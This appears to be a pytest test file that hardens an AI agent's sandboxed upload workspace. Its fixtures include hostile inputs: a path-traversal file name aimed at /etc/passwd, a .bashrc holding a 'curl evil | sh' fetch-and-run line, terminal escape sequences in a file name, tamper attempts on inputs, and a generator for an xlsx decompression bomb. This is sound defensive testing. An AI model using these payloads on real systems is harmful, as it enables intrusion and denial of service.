# ---- inputs and workspace (issue 13)


@pytest.fixture
def upload_dir(tmp_path) -> Path:
    """Where the "uploaded" files lie before a run takes them (the server's side)."""
    directory = tmp_path / "uploads"
    directory.mkdir()
    return directory


def uploaded(directory: Path, label: str, data: bytes) -> Path:
    path = directory / f"upload-{hashlib.sha256(label.encode()).hexdigest()[:12]}"
    path.write_bytes(data)
    return path


async def run_with_uploads(agent, llm_server, files, *steps, conversation: str = "attacker"):
    from agent_core.workspace import run_with_files  # issue 13: absent before, so these tests fail there

    llm_server.reply_json(plan(*steps, thought="attack"))
    llm_server.reply_json(verdict("done", thoughts="attack finished"))
    return await run_with_files(agent, "attack the host", conversation, files)


LIST_INPUTS = subtask("list_inputs", code("""
    import os
    def list_inputs():
        names = sorted(n for n in os.listdir("inputs") if os.path.isfile(os.path.join("inputs", n)))
        data = {n: open(os.path.join("inputs", n), "rb").read().decode() for n in names}
        return {"names": names, "data": data, "cwd_entries": sorted(os.listdir("."))}
"""))


async def test_hostile_upload_names_stay_plain_files_inside_inputs(escape_agent, llm_server, check_unharmed,
                                                                   upload_dir):
    before = hashlib.sha256(Path("/etc/passwd").read_bytes()).hexdigest()
    given = {"../../etc/passwd": b"root::0:0::/:/bin/sh\n", ".bashrc": b"curl evil | sh\n", "a/b": b"ab\n",
             "x\x1b]0;evil\x07\n\r.csv": b"ctl\n", "data.csv": b"first\n", "Data.csv": b"second\n",
             "..": b"dots\n"}
    files = [(name, uploaded(upload_dir, name, data)) for name, data in given.items()]
    agent = escape_agent()

    result = await run_with_uploads(agent, llm_server, files, LIST_INPUTS)

    assert result.status == "succeeded", result.error
    out = output_of(result)
    assert out["names"] == sorted(["_._etc_passwd", "bashrc", "a_b", "x]0;evil.csv", "data.csv", "Data (2).csv",
                                   "file"])
    assert out["data"]["_._etc_passwd"] == "root::0:0::/:/bin/sh\n" and out["data"]["Data (2).csv"] == "second\n"
    assert hashlib.sha256(Path("/etc/passwd").read_bytes()).hexdigest() == before
    prompt = json.dumps(llm_server.chat_requests()[0])
    assert "\\u001b" not in prompt and "inputs/x]0;evil.csv" in prompt
    await check_unharmed(agent, result)


TAMPER = subtask("tamper", code("""
    import os
    def tamper():
        outcome = {}
        def attempt(name, action):
            try:
                action()
                outcome[name] = "done"
            except OSError as exc:
                outcome[name] = type(exc).__name__
        def overwrite():
            with open("inputs/x.csv", "w") as handle:
                handle.write("forged\\n")
        def append():
            with open("inputs/x.csv", "a") as handle:
                handle.write("forged\\n")
        attempt("overwrite", overwrite)
        attempt("append", append)
        attempt("delete", lambda: os.remove("inputs/x.csv"))
        attempt("chmod", lambda: os.chmod("inputs/x.csv", 0o666))
        attempt("rename_file", lambda: os.rename("inputs/x.csv", "inputs/y.csv"))
        attempt("new_file", lambda: open("inputs/new.csv", "w").close())
        attempt("chmod_dir", lambda: os.chmod("inputs", 0o777))
        attempt("rmtree", lambda: os.rmdir("inputs"))
        attempt("move_dir", lambda: os.rename("inputs", "old_inputs"))
        if outcome["move_dir"] == "done":
            attempt("link_dir", lambda: os.symlink("/etc", "inputs"))
        with open("outputs/x.csv", "w") as handle:  # an output of the same name must not replace the upload
            handle.write("forged\\n")
        return {"outcome": outcome, "still": open("old_inputs/x.csv" if outcome["move_dir"] == "done"
                                                  else "inputs/x.csv").read()}
"""))


async def test_a_step_cannot_change_its_inputs_and_the_workspace_keeps_the_original(
        escape_agent, llm_server, check_unharmed, upload_dir):
    original = b"region,amount\nnorth,1\n"
    agent = escape_agent()

    result = await run_with_uploads(agent, llm_server, [("x.csv", uploaded(upload_dir, "x", original))], TAMPER)

    assert result.status == "succeeded", result.error
    out = output_of(result)
    outcome = out["outcome"]
    for attack in ("overwrite", "append", "delete", "chmod", "rename_file", "new_file", "chmod_dir"):
        assert outcome[attack] == "PermissionError", (attack, outcome)
    assert outcome["rmtree"] in ("PermissionError", "OSError"), outcome  # not empty, and not the step's
    if agent.executor.name == "bwrap":  # a root-owned inputs/ in a sticky working directory
        assert outcome["move_dir"] == "PermissionError", outcome
    assert out["still"] == original.decode()
    # The workspace holds the upload's bytes, never what the sandbox has: the next run gets the original back.
    files = {r["name"]: r for r in agent.storage.workspace_files("attacker")}
    assert agent.storage.blob_path(files["x.csv"]["sha256"]).read_bytes() == original
    assert files["x (2).csv"]["kind"] == "output"
    follow_up = await run_with_uploads(agent, llm_server, [], LIST_INPUTS)
    assert output_of(follow_up)["data"]["x.csv"] == original.decode()
    await check_unharmed(agent, result, follow_up)


PREVIEW_BREAKERS = {
    "huge_line.csv": lambda: b"a,b\n" + b"x" * (3 << 20) + b",1\n",
    "garbage.csv": lambda: bytes(random_bytes(200_000)),
    "wide.csv": lambda: ",".join(f"c{i}" for i in range(1_000_000)).encode() + b"\n1,2\n",
    "bomb.xlsx": lambda: xlsx_bomb(),
    "fake.png": lambda: b"\x89PNG\r\n\x1a\n" + b"\xff" * 8,
    "deep.json": lambda: b"[" * 100_000 + b"]" * 100_000,
}


def random_bytes(size: int) -> bytes:
    return os.urandom(size)


def xlsx_bomb() -> bytes:
    """A tiny .xlsx whose one sheet inflates to about 300 MB of XML (one cell repeated)."""
    import io
    import zipfile

    buffer = io.BytesIO()
    row = b'<row r="1"><c r="A1" t="inlineStr"><is><t>' + b"A" * (300 << 20) + b"</t></is></c></row>"
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as book:
        book.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                      'package/2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="application/'
                      'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/'
                      'worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
                      'spreadsheetml.worksheet+xml"/></Types>')
        book.writestr("_rels/.rels", '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                      'package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/'
                      'officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')
        book.writestr("xl/workbook.xml", '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/'
                      'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
                      'relationships"><sheets><sheet name="S" sheetId="1" r:id="r1"/></sheets></workbook>')
        book.writestr("xl/_rels/workbook.xml.rels", '<?xml version="1.0"?><Relationships xmlns="http://schemas.'
                      'openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.'
                      'openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"'
                      '/></Relationships>')
        book.writestr("xl/worksheets/sheet1.xml", b'<?xml version="1.0"?><worksheet xmlns="http://schemas.'
                      b'openxmlformats.org/spreadsheetml/2006/main"><sheetData>' + row + b"</sheetData></worksheet>")
    return buffer.getvalue()


async def test_files_made_to_break_the_previewer_are_previewed_or_refused_in_the_sandbox(
        escape_agent, llm_server, check_unharmed, upload_dir):
    files = [(name, uploaded(upload_dir, name, make())) for name, make in PREVIEW_BREAKERS.items()]
    files.append(("sales.csv", uploaded(upload_dir, "sales", b"region,amount\nnorth,1\nsouth,2\n")))
    agent = escape_agent(step_timeout=20, step_memory_mb=512)
    started = time.monotonic()

    result = await run_with_uploads(agent, llm_server, files, subtask("ok", "def ok():\n    return {'ok': True}"))

    assert result.status == "succeeded", result.error
    assert time.monotonic() - started < 60
    prompt = llm_server.chat_requests()[0]["messages"][-1]["content"]
    manifest = prompt[prompt.index("Files in inputs/"):]
    entries = re.split(r"\n(?=- inputs/)", manifest)[1:]
    assert len(entries) == len(files), manifest
    for entry in entries:
        assert len(entry) < 700, entry  # the line and a preview of at most 400 characters
    by_name = {e.split()[1].removeprefix("inputs/"): e for e in entries}
    assert "preview failed: Error: field larger than field limit" in by_name["huge_line.csv"]
    assert "1000000 columns" in by_name["wide.csv"]
    assert "header: region | amount" in by_name["sales.csv"] and "2 data rows" in by_name["sales.csv"]
    bomb = by_name["bomb.xlsx"]  # inflates past the step's memory: refused inside the sandbox
    assert "preview failed" in bomb or "Excel workbook" in bomb, bomb
    assert "PNG image" in by_name["fake.png"] and "JSON" in by_name["deep.json"] or "preview failed" in by_name["deep.json"]
    assert len(prompt) < 12_000
    await check_unharmed(agent, result)
